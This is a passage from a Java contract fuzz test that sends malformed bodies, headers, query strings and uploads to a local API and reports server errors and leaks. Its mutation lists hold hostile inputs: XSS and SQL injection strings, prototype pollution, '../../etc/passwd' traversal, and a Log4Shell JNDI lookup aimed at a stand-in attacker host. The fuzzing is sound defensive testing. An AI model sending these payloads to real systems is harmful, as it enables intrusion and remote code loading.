     * If-Match, a required field left out, an unknown referenced id, or the world's refusing state.
     * Answers false when no guard leaves the fuzzed value in place.
     */
    private boolean guard(Op op, Req req, Map<String, String> pathIds, Body body, Upload upload, String touched,
            Random random) {
        if (req.hostilePath || req.unknownInPath) {
            req.guard = "no such id in the path";
            if (!req.routed && op.ifMatch) {
                req.headers.put("If-Match", "\"" + (700_000 + random.nextInt(200_000)) + "\"");
            }
            return true;
        }
        if (req.guard != null) {
            return true;
        }
        List<String> options = new ArrayList<>();
        if (!op.pathParams.isEmpty()) {
            options.add("unknown-path");
        }
        if (op.ifMatch) {
            options.add("stale");
        }
        boolean tree = body != null && body.tree != null && !"*".equals(touched);
        List<String> missable = new ArrayList<>();
        if (tree) {
            op.schema.path("required").forEach(name -> {
                if (!name.asText().equals(touched)) {
                    missable.add(name.asText());
                }
            });
            if (!missable.isEmpty()) {
                options.add("missing");
            }
            String reference = REFERENCES.get(op.schemaName);
            if (reference != null && !top(reference).equals(touched)) {
                options.add("reference");
            }
        }
        if (REFUSED_BY_STATE.contains(op.id)) {
            options.add("state");
        }
        if (upload != null) {
            options.add("content");
        }
        if (options.isEmpty()) {
            if (body != null && body.inherentlyInvalid) {
                req.guard = "a body that cannot be read";
                return true;
            }
            return false;
        }
        switch (pick(options, random)) {
            case "unknown-path" -> {
                pathIds.put(pick(op.pathParams, random), unknownId(random));
                req.guard = "unknown id in the path";
                req.unknownInPath = true;
            }
            case "stale" -> {
                req.headers.put("If-Match", "\"" + (700_000 + random.nextInt(200_000)) + "\"");
                req.guard = "stale If-Match";
            }
            case "missing" -> {
                String name = pick(missable, random);
                body.tree.remove(name);
                req.guard = "required " + name + " left out";
            }
            case "reference" -> {
                body.set(op, REFERENCES.get(op.schemaName), NODES.textNode(unknownId(random)));
                req.guard = "unknown " + REFERENCES.get(op.schemaName);
            }
            case "state" -> req.guard = op.id.equals("recordTargetVerdict") ? "the target is not MANUAL"
                    : "the submission is a DRAFT";
            case "content" -> {
                if (upload.acceptable) {
                    upload.content = unaccepted(random);
                    upload.acceptable = false;
                }
                req.guard = "the file is not an accepted type";
            }
            default -> throw new IllegalStateException();
        }
        if (upload != null && !req.unknownInPath && upload.acceptable) {
            upload.content = unaccepted(random);
            upload.acceptable = false;
        }
        return true;
    }

    private void query(Op op, Req req, Random random) {
        if (op.query.isEmpty() || random.nextInt(6) == 0) {
            List<String> stray = List.of("page=-1", "size=99999999999", "q=" + encode("<script>alert(1)</script>"),
                    "sort=" + encode("name; drop table plan"), encode("__proto__[isAdmin]") + "=true", "%00=1",
                    encode("' OR 1=1 --") + "=1", "a=" + "b".repeat(3000), "page", "=", "&&&", "size=1&size=-1&size=x");
            String pair = pick(stray, random);
            req.query.add(pair);
            req.label = "query " + clip(pair, 60);
            return;
        }
        if (op.queryTurn % op.query.size() == 0) {
            Collections.shuffle(op.query, random);
        }
        Param param = op.query.get(op.queryTurn++ % op.query.size());
        List<QueryValue> values = queryValues(param.schema);
        List<QueryValue> sharp = values.stream().filter(QueryValue::sharp).toList();
        QueryValue value = pick(random.nextBoolean() && !sharp.isEmpty() ? sharp : values, random);
        String encoded = value.raw ? value.text : encode(value.text);
        req.query.add(param.name + "=" + encoded);
        if (random.nextInt(5) == 0) {
            req.query.add(param.name + "=" + encode(pick(HOSTILE, random)));
        }
        req.shouldReject = value.invalid;
        req.label = "query " + param.name + " = " + show(value.text);
    }

    private void header(Op op, Req req, Body body, Random random) {
        List<String> kinds = new ArrayList<>(List.of("Accept-Language", "Accept-Language", "X-Request-Id", "Accept"));
        if (op.ifMatch) {
            kinds.add("If-Match");
            kinds.add("If-Match");
        }
        if (op.idempotencyKey) {
            kinds.add("Idempotency-Key");
            kinds.add("Idempotency-Key");
        }
        String name = pick(kinds, random);
        String value = switch (name) {
            case "Accept-Language" -> pick(List.of("xx-YY", "*", "vi;q=abc", "en;q=2", ";;;", "a".repeat(3000),
                    "../../etc/passwd", "en-US,en;q=0.9,vi;q=0.8", "i-klingon", "zh-Hant-TW-u-ca-chinese-x-fuzz", "en-",
                    "' OR 1=1 --", "<script>", "vi-VN-" + "x".repeat(200), "\u00e9n"), random);
            case "X-Request-Id" -> pick(List.of("<script>alert(1)</script>", "' OR 1=1 --", "a".repeat(5000),
                    "../../etc/passwd", "${jndi:ldap://attacker.invalid/a}"), random);
            case "Accept" -> pick(List.of("application/xml", "text/html", "*/*;q=abc", "application/json;q=0",
                    "image/png", "application/problem+xml", "text/event-stream", ""), random);
            case "If-Match" -> pick(List.of("' OR 1=1 --", "\"<script>\"", "\"-1\"", "\"99999999999999999999\"",
                    "W/\"abc\"", "\"\"", "*", "a".repeat(5000), "\"1e3\"", "\"0x10\"", "W/", "\"", "\"123456789\", \"1\""), random);
            case "Idempotency-Key" -> pick(List.of("k".repeat(201), "' OR 1=1 --", "<script>alert(1)</script>",
                    "../../etc/passwd", "k".repeat(5000), " "), random);
            default -> throw new IllegalStateException(name);
        };
        req.headers.put(name, value);
        req.label = name + ": " + show(value);
        if (name.equals("If-Match")) {
            req.guard = "hostile If-Match";
        }
        if (name.equals("Idempotency-Key") && value.length() > 200) {
            req.shouldReject = true;
        }
    }

    /**
     * Bodies that are not the JSON the operation reads. Answers what the change touched for the
     * guards ("" nothing, "*" the whole body, else a property), null when nothing fits the operation.
     */
    private String malformed(Op op, Req req, Body body, Random random) {
        boolean otherGuard = !op.pathParams.isEmpty() || op.ifMatch || REFUSED_BY_STATE.contains(op.id)
                || !op.mutating() || ALWAYS_VALID.contains(op.id);
        byte[] text = body.render(random);
        String json = new String(text, StandardCharsets.UTF_8);
        switch (random.nextInt(otherGuard ? 14 : 9)) {
            case 0 -> {
                body.replace(java.util.Arrays.copyOf(text, 1 + random.nextInt(Math.max(1, text.length - 2))), true);
                req.label = "truncated body";
            }
            case 1 -> {
                body.replace(json.replace('"', '\'').getBytes(StandardCharsets.UTF_8), true);
                req.label = "single-quoted JSON";
            }
            case 2 -> {
                body.prefix = "/* fuzz */ // comment\n".getBytes(StandardCharsets.US_ASCII);
                req.label = "comments before the body";
            }
            case 3 -> {
                body.suffix = pick(List.of("}}]]<script>", ",{\"x\":1}", "\u0000", "garbage"), random).getBytes(StandardCharsets.UTF_8);
                req.label = "trailing " + show(new String(body.suffix, StandardCharsets.UTF_8));
            }
            case 4 -> {
                body.prefix = bytes(0xEF, 0xBB, 0xBF);
                req.label = "byte order mark";
            }
            case 5 -> {
                Iterator<String> names = body.tree.fieldNames();
                if (!names.hasNext()) {
                    return null;
                }
                body.duplicate = names.next();
                body.duplicateValue = pick(HOSTILE, random);
                body.duplicateLast = random.nextBoolean();
                req.label = "duplicate key " + body.duplicate + " = " + show(body.duplicateValue)
                        + (body.duplicateLast ? " after the others" : " before the others");
            }
            case 6 -> {
                body.prefix = " ".repeat(ONE_MB).getBytes(StandardCharsets.US_ASCII);
                req.label = "1 MB of spaces before the body";
            }
            case 7 -> {
                body.replace(("[" + json + "]").getBytes(StandardCharsets.UTF_8), true);
                req.label = "body wrapped in an array";
            }
            case 8 -> {
                body.replace("[]".getBytes(StandardCharsets.US_ASCII), true);
                req.label = "empty array";
            }
            case 9 -> {
                body.replace(json.getBytes(StandardCharsets.UTF_16), false);
                req.label = "UTF-16 body sent as UTF-8";
            }
            case 10 -> {
                String whole = pick(List.of("\"text\"", "123", "true", "null", "", "{", "}", "\"\\ud800\""), random);
                body.replace(whole.getBytes(StandardCharsets.US_ASCII), false);
                req.label = "body " + show(whole);
            }
            case 11, 12, 13 -> {
                Field field = op.strings.isEmpty() ? null : pick(op.strings, random);
                if (field == null) {
                    return null;
                }
                body.raw(op, field.path, "\"a\u0001b\tc\nd\"".getBytes(StandardCharsets.US_ASCII));
                req.label = "raw control characters inside " + field.path;
                return field.top();
            }
            default -> throw new IllegalStateException();
        }
        return body.tree == null ? "*" : body.duplicate != null ? body.duplicate : "";
    }

    // ---------------------------------------------------------------- sending and checking

    private Answer send(Req req) {
        String url = "http://localhost:" + RestAssured.port + req.path + (req.query.isEmpty() ? "" : "?" + String.join("&", req.query));
        try {
            HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(60))
                    .header("Authorization", "Basic " + Base64.getEncoder().encodeToString(
                            (req.user + ":" + TestAccounts.PASSWORD).getBytes(StandardCharsets.UTF_8)));
            if (!req.headers.containsKey("Accept")) {
                builder.header("Accept", "application/json");
            }
            if (req.contentType != null && !req.contentType.isEmpty()) {
                builder.header("Content-Type", req.contentType);
            }
            req.headers.forEach((name, value) -> {
                if (!value.isEmpty()) {
                    builder.header(name, value);
                }
            });
            builder.method(req.method, req.body == null ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofByteArray(req.body));
            HttpResponse<byte[]> response = http.send(builder.build(), HttpResponse.BodyHandlers.ofByteArray());
            return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
                    response.body(), null);
        } catch (IllegalArgumentException e) {
            return new Answer(-1, "", new byte[0], "the client could not send it: " + e.getMessage());
        } catch (HttpTimeoutException e) {
            return new Answer(0, "", new byte[0], "no answer within 60 s");
        } catch (IOException e) {
            return new Answer(0, "", new byte[0], "no answer: " + e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private void check(Op op, Req req, Answer answer, List<Finding> found) {
        if (answer.status == -1) {
            observations.add("not sent (" + op.id + "): " + req.label + ": " + answer.failure);
            return;
        }
        List<String> problems = new ArrayList<>();
        String text = new String(answer.body, StandardCharsets.UTF_8);
        if (answer.status == 0) {
            problems.add(answer.failure);
        } else if (answer.status >= 500) {
            problems.add("answered " + answer.status);
        } else if (answer.status >= 400) {
            problems.addAll(problemShape(answer, text));
        } else if (answer.status >= 300) {
            problems.add("answered " + answer.status + " (a redirect)");
        } else if (req.mustFail) {
            problems.add("answered " + answer.status + " to a request that must fail (" + req.guardText() + ")");
        }
        List<String> leaks = (answer.status >= 300 || answer.status == 0 ? LEAKS : TRACE_LEAKS).stream()
                .filter(text::contains).toList();
        if (!leaks.isEmpty()) {
            int at = text.indexOf(leaks.get(0));
            problems.add("the answer shows " + leaks + ": ..." + clip(text.substring(Math.max(0, at - 60)), 160));
        }
        if (!problems.isEmpty()) {
            String cause = cause(text);
            String kind = answer.status + " " + answer.contentType.replaceAll(";.*", "") + " "
                    + (cause != null ? cause : problems.get(0).replaceAll("[(:].*", "") + " to " + req.attack);
            found.add(new Finding(op.id, kind, String.join("; ", problems) + "\n  request: " + req.describe()
                    + "\n  answer:  " + answer.describe()));
            return;
        }
        if (answer.status > 0 && !op.node.path("responses").has(String.valueOf(answer.status)) && !generic(req, answer.status)) {
            observations.add("status " + answer.status + " not listed for " + op.id + " (e.g. " + clip(req.label, 100) + ")");
        }
        if (req.shouldReject && answer.status < 300) {
            observations.add("read a value the contract forbids: " + op.id + " " + req.label + " -> " + answer.status);
        }
        if (req.probe != null && answer.status < 500 && !rejects(answer, req.probe)) {
            observations.add("read a value the contract forbids: " + op.id + " " + clip(req.label, 120)
                    + " -> " + answer.status + " " + clip(text, 200));
        }
    }

    private record Finding(String operation, String kind, String detail) {
    }

    /** The exception an error answer names, without ids: what tells findings of one bug together. */
    private static String cause(String text) {
        java.util.regex.Matcher exception = java.util.regex.Pattern
                .compile("((?:[a-z]\\w*\\.)+[A-Z]\\w*(?:Exception|Error))(: [^\"\\\\(]{0,90})?").matcher(text);
        return exception.find() ? exception.group(0).replaceAll("[0-9a-f-]{36}", "<id>") : null;
    }

    /** A status any operation may answer to what the attack sent: an unknown method, Accept, or body type. */
    private static boolean generic(Req req, int status) {
        return (status == 405 && req.attack == Attack.METHOD) || (status == 406 && req.headers.containsKey("Accept"))
                || (status == 415 && (req.attack == Attack.STRAY_BODY || req.attack == Attack.CONTENT_TYPE))
                || (status == 404 && !req.routed) || status == 413;
    }

    /** What is wrong with a 4xx answer as a problem document. */
    private static List<String> problemShape(Answer answer, String text) {
        List<String> wrong = new ArrayList<>();
        if (!answer.contentType.toLowerCase(Locale.ROOT).startsWith("application/problem+json")) {
            wrong.add("a " + answer.status + " that is not application/problem+json (Content-Type: " + answer.contentType + ")");
            return wrong;
        }
        try {
            JsonNode problem = JSON.readTree(text);
            if (problem == null || !problem.isObject()) {
                wrong.add("a problem document that is not a JSON object");
                return wrong;
            }
            if (!problem.path("type").isTextual() || problem.path("type").asText().isBlank()) {
                wrong.add("a problem without type");
            }
            if (!problem.path("title").isTextual() || problem.path("title").asText().isBlank()) {
                wrong.add("a problem without title");
            }
            if (!problem.path("status").isInt() || problem.path("status").asInt() != answer.status) {
                wrong.add("a problem whose status " + problem.path("status") + " is not the HTTP status " + answer.status);
            }
        } catch (IOException e) {
            wrong.add("a problem document that is not JSON");
        }
        return wrong;
    }

    /** Whether the answer refused the body because of {@code field}: a 400 that names it, or an unreadable body. */
    private static boolean rejects(Answer answer, String field) {
        if (answer.status != 400 && answer.status != 413) {
            return false;
        }
        try {
            JsonNode problem = JSON.readTree(answer.body);
            if (!problem.path("type").asText().endsWith("/validation")) {
                return true;
            }
            for (JsonNode violation : problem.path("violations")) {
                String named = violation.path("field").asText();
                if (named.isEmpty() || related(named, field)) {
                    return true;
                }
            }
            return false;
        } catch (IOException e) {
            return false;
        }
    }

    private static boolean related(String named, String field) {
        String a = named.replaceAll("\\[\\d+]", "[0]");
        String b = field;
        return a.equals(b) || a.startsWith(b + ".") || a.startsWith(b + "[") || b.startsWith(a + ".") || b.startsWith(a + "[");
    }

    private void report() {
        int total = requests.values().stream().mapToInt(Integer::intValue).sum();
        double seconds = (System.nanoTime() - started) / 1e9;
        StringBuilder out = new StringBuilder();
        out.append("\n=== ContractFuzzTest: seed ").append(SEED).append(", ").append(total).append(" requests over ")
                .append(requests.size()).append(" operations in ").append(String.format(Locale.ROOT, "%.1f", seconds))
                .append(" s, ").append(findings.size()).append(" finding(s)\n");
        Map<String, List<Finding>> kinds = new TreeMap<>();
        findings.forEach(f -> kinds.computeIfAbsent(f.kind(), k -> new ArrayList<>()).add(f));
        kinds.forEach((kind, all) -> out.append("--- ").append(all.size()).append(" x ").append(kind).append("\n    in ")
                .append(new TreeSet<>(all.stream().map(Finding::operation).toList())).append("\n    e.g. ")
                .append(all.get(0).detail().replace("\n", "\n    ")).append('\n'));
        out.append("  requests per operation: ").append(requests).append('\n');
        out.append("--- observations (do not fail the test) ---\n");
        observations.forEach(o -> out.append("  ").append(o).append('\n'));
        System.out.println(out);
        try {
            java.nio.file.Files.writeString(java.nio.file.Path.of("target", "contract-fuzz-report.txt"), out);
        } catch (IOException e) {
            System.out.println("(report not written: " + e + ")");
        }
    }

    // ---------------------------------------------------------------- requests

    /** One fuzz request: what makes it hostile, and what its answer may be. */
    private static final class Req {
        final String user;
        String method;
        String path;
        final List<String> query = new ArrayList<>();
        final Map<String, String> headers = new LinkedHashMap<>();
        String contentType;
        byte[] body;
        String label;
        /** Why a change cannot succeed; null for reads. */
        String guard;
        /** Invalid by its guard or its path: a 2xx answer is a finding. */
        boolean mustFail;
        /** Invalid by the contract, but harmless: a 2xx is an observation. */
        boolean shouldReject;
        /** A body field given a value the contract forbids: an answer that does not refuse it is an observation. */
        String probe;
        boolean hostilePath;
        boolean unknownInPath;
        boolean routed = true;
        Attack attack;

        Req(Op op) {
            this.user = op.user;
            this.method = op.method.toUpperCase(Locale.ROOT);
        }

        String guardText() {
            return guard != null ? "invalid by " + guard : "invalid: " + label;
        }

        String describe() {
            StringBuilder d = new StringBuilder();
            d.append(method).append(' ').append(clip(path + (query.isEmpty() ? "" : "?" + String.join("&", query)), 400))
                    .append("  as ").append(user).append("  [").append(label).append(guard != null ? "; " + guard : "")
                    .append(']');
            headers.forEach((name, value) -> d.append("\n    ").append(name).append(": ").append(clip(show(value), 120)));
            if (contentType != null) {
                d.append("\n    Content-Type: ").append(clip(show(contentType), 120));
            }
            if (body != null) {
                d.append("\n    body (").append(body.length).append(" bytes): ").append(excerpt(body, 400));
            }
            return d.toString();
        }
    }

    private record Answer(int status, String contentType, byte[] body, String failure) {

        String describe() {
            return status + " " + contentType + " " + excerpt(body, 600);
        }
    }

    /** A JSON body: the example of the contract, changed by the attack and the guard. */
    private static final class Body {
        ObjectNode tree;
        byte[] replacement;
        boolean inherentlyInvalid;
        byte[] prefix = new byte[0];
        byte[] suffix = new byte[0];
        String duplicate;
        String duplicateValue;
        boolean duplicateLast;
        final Map<String, byte[]> raws = new LinkedHashMap<>();

        Body(JsonNode example) {
            this.tree = example instanceof ObjectNode object ? object : JSON.createObjectNode();
        }

        void set(Op op, String path, JsonNode value) {
            if (tree != null) {
                setAt(tree, op.schema, tokens(path), value);
            }
        }

        /** Puts {@code fragment} as it is where {@code path} is. */
        void raw(Op op, String path, byte[] fragment) {
            String marker = "@@fuzz-raw-" + raws.size() + "@@";
            raws.put(marker, fragment);
            set(op, path, NODES.textNode(marker));
        }

        void replace(byte[] bytes, boolean unreadable) {
            replacement = bytes;
            inherentlyInvalid = unreadable;
            tree = null;
        }

        byte[] render(Random random) {
            if (replacement != null) {
                return concat(prefix, replacement, suffix);
            }
            String text;
            try {
                text = (random.nextBoolean() ? JSON : ASCII_JSON).writeValueAsString(tree);
            } catch (IOException e) {
                try {
                    text = ASCII_JSON.writeValueAsString(tree);
                } catch (IOException again) {
                    throw new UncheckedIOException(again);
                }
            }
            if (duplicate != null) {
                // the key is never a guard's, so whichever value a reader keeps the request stays invalid
                String pair = JSON.valueToTree(duplicate) + ":" + JSON.valueToTree(duplicateValue);
                text = duplicateLast ? text.substring(0, text.length() - 1) + (tree.isEmpty() ? "" : ",") + pair + "}"
                        : "{" + pair + (tree.isEmpty() ? "" : ",") + text.substring(1);
            }
            byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
            for (Map.Entry<String, byte[]> raw : raws.entrySet()) {
                bytes = replaceAll(bytes, ("\"" + raw.getKey() + "\"").getBytes(StandardCharsets.US_ASCII), raw.getValue());
            }
            return concat(prefix, bytes, suffix);
        }
    }

    /** A file upload as multipart/form-data, broken as the attack says. */
    private static final class Upload {
        String boundary;
        String fileName = "bao-cao.pdf";
        String contentType = "application/pdf";
        byte[] content = PDF;
        boolean acceptable = true;
        int variant = -1;

        Upload(Random random) {
            boundary = "----danvanFuzz" + Long.toHexString(random.nextLong());
        }

        void render(Req req, Random random) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            String used = variant == 1 ? "----other" : variant == 7 ? "b".repeat(300) : boundary;
            String name = variant == 4 ? "files" : "file";
            String disposition = variant == 3 ? "form-data; name=\"" + name + "\""
                    : "form-data; name=\"" + name + "\"; filename=\"" + fileName + "\"";
            int parts = variant == 5 ? 2 : 1;
            for (int i = 0; i < parts; i++) {
                write(out, "--" + used + "\r\n");
                if (variant != 6) {
                    write(out, "Content-Disposition: " + disposition + "\r\n");
                }
                write(out, "Content-Type: " + contentType + "\r\n\r\n");
                out.writeBytes(content);
                write(out, "\r\n");
            }
            if (variant != 2) {
                write(out, "--" + used + "--\r\n");
            }
            req.body = out.toByteArray();
            req.contentType = req.contentType != null ? req.contentType
                    : variant == 0 ? "multipart/form-data" : "multipart/form-data; boundary=" + (variant == 7 ? used : boundary);
        }

        private static void write(ByteArrayOutputStream out, String text) {
            out.writeBytes(text.getBytes(StandardCharsets.UTF_8));
        }
    }

    // ---------------------------------------------------------------- operations and schemas

    private record Param(String name, JsonNode schema) {
    }

    /** A property of a body, by its path ({@code population.groupId}, {@code legalBases[0].number}). */
    private record Field(String path, JsonNode schema) {

        String top() {
            return ContractFuzzTest.top(path);
        }
    }

    /** An operation of the contract with what the fuzzer needs: parameters, body schema, example, account. */
    private static final class Op {
        final String id;
        final String method;
        final String path;
        final JsonNode node;
        final boolean firstOfPath;
        final String user;
        final List<String> pathParams = new ArrayList<>();
        final List<Param> query = new ArrayList<>();
        boolean ifMatch;
        boolean idempotencyKey;
        int queryTurn;
        int multipartTurn;
        final List<Integer> multipartVariants = new ArrayList<>(List.of(0, 1, 2, 3, 4, 5, 6, 7));
        boolean json;
        boolean multipart;
        String schemaName;
        JsonNode schema = NODES.objectNode();
        JsonNode example = NODES.objectNode();
        final List<Field> fields = new ArrayList<>();
        final List<Field> strings = new ArrayList<>();
        final List<Field> numbers = new ArrayList<>();
        final List<Field> enums = new ArrayList<>();
        final List<Field> arrays = new ArrayList<>();
        private final JsonNode contract;

        Op(JsonNode contract, ContractStatusTest.Operation operation, boolean firstOfPath) {
            this.contract = contract;
            this.id = operation.operationId();
            this.method = operation.method();
            this.path = operation.path();
            this.node = operation.node();
            this.firstOfPath = firstOfPath;
            java.util.regex.Matcher names = java.util.regex.Pattern.compile("\\{([^}]+)}").matcher(path);
            while (names.find()) {
                pathParams.add(names.group(1));
            }
            List<JsonNode> params = new ArrayList<>();
            contract.path("paths").path(path).path("parameters").forEach(params::add);
            node.path("parameters").forEach(params::add);
            for (JsonNode p : params) {
                JsonNode param = resolve(p);
                switch (param.path("in").asText()) {
                    case "query" -> query.add(new Param(param.path("name").asText(), resolve(param.path("schema"))));
                    case "header" -> {
                        ifMatch |= param.path("name").asText().equals("If-Match");
                        idempotencyKey |= param.path("name").asText().equals("Idempotency-Key");
                    }
                    default -> {
                    }
                }
            }
            JsonNode content = node.path("requestBody").path("content");
            json = content.has("application/json");
            multipart = content.has("multipart/form-data");
            if (json) {
                JsonNode ref = content.path("application/json").path("schema").path("$ref");
                schemaName = ref.isMissingNode() ? null : ref.asText().substring(ref.asText().lastIndexOf('/') + 1);
                schema = resolve(content.path("application/json").path("schema"));
                example = content.path("application/json").path("example");
                collect(schema, "", 0);
            }
            user = Api.allowedAccount(method, path);
        }

        boolean mutating() {
            return !method.equals("get");
        }

        JsonNode resolve(JsonNode schema) {
            JsonNode resolved = schema;
            for (int i = 0; i < 10 && resolved.has("$ref"); i++) {
                String[] parts = resolved.get("$ref").asText().substring(2).split("/");
                JsonNode target = contract;
                for (String part : parts) {
                    target = target.path(part);
                }
                resolved = target;
            }
            return resolved;
        }

        private void collect(JsonNode schema, String prefix, int depth) {
            for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties.hasNext();) {
                Map.Entry<String, JsonNode> property = properties.next();
                String path = prefix.isEmpty() ? property.getKey() : prefix + "." + property.getKey();
                JsonNode s = resolve(property.getValue());
                add(new Field(path, s), depth);
            }
        }

        private void add(Field field, int depth) {
            JsonNode s = field.schema;
            fields.add(field);
            String type = s.path("type").asText();
            if (s.has("enum")) {
                enums.add(field);
            }
            switch (type) {
                case "string" -> strings.add(field);
                case "integer", "number" -> numbers.add(field);
                case "array" -> {
                    arrays.add(field);
                    JsonNode items = resolve(s.path("items"));
                    if (depth < 3) {
                        Field item = new Field(field.path + "[0]", items);
                        if (items.path("type").asText().equals("object")) {
                            collect(items, item.path, depth + 1);
                        } else {
                            add(item, depth + 1);
                        }
                    }
                }
                case "object" -> {
                    if (depth < 3) {
                        collect(s, field.path, depth + 1);
                    }
                }
                default -> {
                }
            }
        }
    }

    /** Sets {@code value} at the path in {@code root}, making what lies between from the schema. */
    private static void setAt(ObjectNode root, JsonNode rootSchema, List<Object> tokens, JsonNode value) {
        JsonNode current = root;
        for (int i = 0; i < tokens.size(); i++) {
            Object token = tokens.get(i);
            boolean last = i == tokens.size() - 1;
            Object next = last ? null : tokens.get(i + 1);
            if (token instanceof String name) {
                ObjectNode object = (ObjectNode) current;
                if (last) {
                    object.set(name, value);
                    return;
                }
                JsonNode child = object.get(name);
                if (next instanceof Integer && (child == null || !child.isArray())) {
                    child = object.putArray(name);
                } else if (next instanceof String && (child == null || !child.isObject())) {
                    child = object.putObject(name);
                }
                current = child;
            } else {
                ArrayNode array = (ArrayNode) current;
                int index = (Integer) token;
                if (last) {
                    if (array.size() > index) {
                        array.set(index, value);
                    } else {
                        array.add(value);
                    }
                    return;
                }
                if (array.size() <= index || !(next instanceof String ? array.get(index).isObject() : array.get(index).isArray())) {
                    JsonNode fresh = next instanceof String ? minimalItem(rootSchema, tokens.subList(0, i + 1)) : NODES.arrayNode();
                    if (array.size() > index) {
                        array.set(index, fresh);
                    } else {
                        array.add(fresh);
                    }
                }
                current = array.get(Math.min(index, array.size() - 1));
            }
        }
    }

    /** The minimal object for the array item at {@code tokens} (a path ending at an index). */
    private static JsonNode minimalItem(JsonNode rootSchema, List<Object> tokens) {
        JsonNode schema = rootSchema;
        for (Object token : tokens) {
            schema = token instanceof String name ? SCHEMAS.resolve(schema.path("properties").path(name))
                    : SCHEMAS.resolve(schema.path("items"));
        }
        JsonNode minimal = minimal(schema);
        return minimal.isObject() ? minimal : NODES.objectNode();
    }

    /** Resolves $refs against the contract (set once the contract is read). */
    private static final Resolver SCHEMAS = new Resolver();

    private static final class Resolver {
        private JsonNode contract;

        JsonNode resolve(JsonNode schema) {
            if (contract == null) {
                try {
                    contract = ContractStatusTest.contract();
                } catch (Exception e) {
                    throw new IllegalStateException(e);
                }
            }
            JsonNode resolved = schema;
            for (int i = 0; i < 10 && resolved.has("$ref"); i++) {
                String[] parts = resolved.get("$ref").asText().substring(2).split("/");
                JsonNode target = contract;
                for (String part : parts) {
                    target = target.path(part);
                }
                resolved = target;
            }
            return resolved;
        }
    }

    /** A value the schema accepts, as small as can be. */
    private static JsonNode minimal(JsonNode raw) {
        JsonNode schema = SCHEMAS.resolve(raw);
        if (schema.has("example")) {
            return schema.get("example").deepCopy();
        }
        if (schema.has("enum")) {
            return NODES.textNode(firstEnum(schema));
        }
        return switch (schema.path("type").asText()) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                for (JsonNode name : schema.path("required")) {
                    object.set(name.asText(), minimal(schema.path("properties").path(name.asText())));
                }
                yield object;
            }
            case "array" -> NODES.arrayNode();
            case "integer" -> NODES.numberNode(schema.has("minimum") ? schema.get("minimum").asLong() : 1);
            case "number" -> NODES.numberNode(1);
            case "boolean" -> NODES.booleanNode(true);
            default -> switch (schema.path("format").asText()) {
                case "date" -> NODES.textNode("2099-06-30");
                case "date-time" -> NODES.textNode("2099-06-30T00:00:00Z");
                default -> NODES.textNode("x");
            };
        };
    }

    private static String firstEnum(JsonNode schema) {
        for (JsonNode value : schema.path("enum")) {
            if (value.isTextual()) {
                return value.asText();
            }
        }
        return "X";
    }

    private static JsonNode wrongType(JsonNode schema, Random random) {
        ObjectNode operator = NODES.objectNode().put("$gt", "");
        ObjectNode nested = NODES.objectNode();
        nested.putObject("nested").putArray("deep").add(1).add(2);
        List<JsonNode> candidates = switch (schema.path("type").asText()) {
            case "string" -> List.of(operator, NODES.arrayNode().add("x"), NODES.numberNode(12345), NODES.booleanNode(true),
                    NODES.numberNode(1.5), nested);
            case "integer", "number" -> List.of(NODES.textNode("12abc"), NODES.textNode("one hundred"),
                    NODES.booleanNode(true), NODES.objectNode(), NODES.arrayNode().add(1), NODES.textNode(""), NODES.textNode("12"));
            case "boolean" -> List.of(NODES.textNode("yes"), NODES.numberNode(1), NODES.objectNode(),
                    NODES.arrayNode().add(true), NODES.textNode(""), NODES.textNode("true"));
            case "array" -> List.of(NODES.objectNode().put("0", "x"), NODES.textNode("a,b"), NODES.numberNode(1),
                    NODES.booleanNode(true));
            default -> List.of(NODES.arrayNode(), NODES.textNode("str"), NODES.numberNode(1), NODES.booleanNode(true));
        };
        return pick(candidates, random);
    }

    /** Numbers for an integer or number field: out of range, fractional, enormous, not JSON. */
    private static List<String> numbers(JsonNode schema) {
        List<String> values = new ArrayList<>(List.of("-1", "2147483648", "-2147483649", "9223372036854775808",
                "1" + "0".repeat(1200), "1e400", "-1e400", "NaN", "Infinity", "-Infinity", "0x1F", "01", "+1",
                "1_000", "--1", "1e1000000000", "-1e-1000000000", "0E-1000000000"));
        if (schema.path("type").asText().equals("integer")) {
            values.addAll(List.of("1.5", "0.0000001", "1E2"));
        } else {
            values.addAll(List.of("100.01", "-0.01", "100.001", "1e-1000000000", "33.333333333333333333333333"));
        }
        if (schema.has("minimum")) {
            values.add(new BigDecimal(schema.get("minimum").asText()).subtract(BigDecimal.ONE).toPlainString());
        }
        if (schema.has("maximum")) {
            values.add(new BigDecimal(schema.get("maximum").asText()).add(BigDecimal.ONE).toPlainString());
        }
        return values;
    }

    private static boolean numberBreaksContract(JsonNode schema, String text) {
        if (!text.matches("-?(0|[1-9]\\d*)(\\.\\d+)?([eE][+-]?\\d+)?")) {
            return true;
        }
        BigDecimal value = new BigDecimal(text);
        if (schema.path("type").asText().equals("integer") && value.signum() != 0
                && value.stripTrailingZeros().scale() > 0) {
            return true;
        }
        BigDecimal min = schema.has("minimum") ? new BigDecimal(schema.get("minimum").asText())
                : switch (schema.path("format").asText()) {
                    case "int32" -> BigDecimal.valueOf(Integer.MIN_VALUE);
                    case "int64" -> BigDecimal.valueOf(Long.MIN_VALUE);
                    default -> null;
                };
        BigDecimal max = schema.has("maximum") ? new BigDecimal(schema.get("maximum").asText())
                : switch (schema.path("format").asText()) {
                    case "int32" -> BigDecimal.valueOf(Integer.MAX_VALUE);
                    case "int64" -> BigDecimal.valueOf(Long.MAX_VALUE);
                    default -> null;
                };
        return (min != null && value.compareTo(min) < 0) || (max != null && value.compareTo(max) > 0);
    }

    private static boolean stringBreaksContract(JsonNode schema, String value) {
        if (schema.has("enum")) {
            boolean listed = false;
            for (JsonNode allowed : schema.get("enum")) {
                listed |= allowed.isTextual() && allowed.asText().equals(value);
            }
            if (!listed) {
                return true;
            }
        }
        int length = value.codePointCount(0, value.length());
        if ((schema.has("maxLength") && length > schema.get("maxLength").asInt())
                || (schema.has("minLength") && length < schema.get("minLength").asInt())) {
            return true;
        }
        if (schema.has("pattern") && !java.util.regex.Pattern.compile(schema.get("pattern").asText()).matcher(value).find()) {
            return true;
        }
